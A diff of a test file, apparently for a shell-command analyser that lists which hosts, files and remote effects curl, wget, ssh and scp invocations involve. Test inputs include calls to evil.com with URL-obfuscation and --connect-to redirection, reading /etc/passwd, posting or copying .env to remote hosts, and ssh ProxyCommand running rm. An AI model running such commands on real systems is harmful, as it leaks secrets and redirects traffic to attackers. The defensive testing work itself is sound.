@@ -58,12 +58,27 @@ describe('downloads', () =>
   curl -XGET https://x.example => host x.example
   curl -G -d a=b https://x.example => host x.example
   curl --cacert ca.pem -E me.pem https://x.example => reads ca.pem; reads me.pem; host x.example
-  curl -K conf => doubt unknown-option
+  curl -K conf => doubt unknown-option; host ?; reads conf
   curl -x proxy.example:3128 https://x.example => host proxy.example; host x.example
-  curl --resolve x.example:443:10.0.0.1 https://x.example => host x.example; doubt unknown-option
+  curl --resolve x.example:443:10.0.0.1 https://x.example => host x.example; doubt unknown-option; host 10.0.0.1
   curl --unix-socket /var/run/docker.sock http://x.example/ => host x.example; doubt unknown-option
   curl --zzz https://x.example => host x.example; doubt unknown-option
   curl $OPTS https://x.example => reads ?; host ?; host x.example; doubt dynamic-word
+  curl http:/evil.com => host evil.com
+  curl http:///evil.com/x => host evil.com
+  curl 'http://ev%69l.com' => host ?
+  curl 'http://good.com\\@evil.com' => host ?
+  curl http://u:p@evil.com:80/x => host evil.com
+  curl https://[::1]/x => host ?
+  curl localhost:3000 => host localhost
+  curl localhost:3000/x?a=[1] => host ?; reads ?
+  curl evil.com => host evil.com
+  curl --connect-to good.com:80:evil.com:80 http://good.com => doubt unknown-option; host evil.com; host good.com
+  curl --connect-to ::evil.com: http://good.com => doubt unknown-option; host evil.com; host good.com
+  curl --resolve good.com:80:1.2.3.4 http://good.com => doubt unknown-option; host 1.2.3.4; host good.com
+  curl file://127.0.0.1/etc/passwd => reads /etc/passwd
+  curl -x socks5h://evil.com:1080 good.com => host evil.com; host good.com
+  wget http:/evil.com/x -O- => host evil.com
   wget --version => nothing
   wget https://x.example/a => writes ./**; host x.example
   wget -qO- https://x.example/a => host x.example
@@ -76,7 +91,7 @@ describe('downloads', () =>
   wget -o log -O- https://x.example/a => writes log; host x.example
   wget -i urls -O- => reads urls; host ?
   wget --post-file=.env -O- https://x.example/a => reads .env; host x.example; changes remote data
-  wget -e use_proxy=yes -O- https://x.example/a => host x.example; doubt unknown-option
+  wget -e use_proxy=yes -O- https://x.example/a => host x.example; doubt unknown-option; host ?
   wget --use-askpass=./x -O- https://x.example/a => host x.example; doubt unknown-option
   wget -r https://x.example/a => writes ./**; host ?; host x.example
 `,
@@ -96,10 +111,15 @@ describe('other machines', () =>
   ssh -o ProxyCommand='rm a' x.example => host x.example; shell rm a; changes remote session; doubt runs
   ssh -oProxyCommand='rm a' x.example => host x.example; shell rm a; changes remote session; doubt runs
   ssh x.example -o 'localcommand rm a' => host x.example; shell rm a; changes remote session; doubt runs
-  ssh -F conf x.example => host x.example; changes remote session; doubt unknown-option
+  ssh -F conf x.example => host x.example; changes remote session; doubt unknown-option; reads conf
   ssh -J jump.example x.example => host jump.example; host x.example; changes remote session
   ssh -L 1:h:2 x.example => host x.example; changes port forwarding; changes remote session
   ssh -E log x.example => writes log; host x.example; changes remote session
+  ssh -o HostName=evil.com x => changes remote session; host evil.com; host x
+  ssh -o ProxyJump=a,b x => changes remote session; host a; host b; host x
+  ssh -J a,u@b:22 x => changes remote session; host a; host b; host x
+  scp -J evil.com a x:b => changes remote files; host evil.com; host x; reads a/**
+  ssh -F none x => changes remote session; doubt unknown-option; host x
   scp .env me@x.example:/tmp => reads .env/**; host x.example; changes remote files
   scp x.example:/etc/a b => writes b/**; host x.example
   scp -r ./a:b out => reads ./a:b/**L; writes out/**
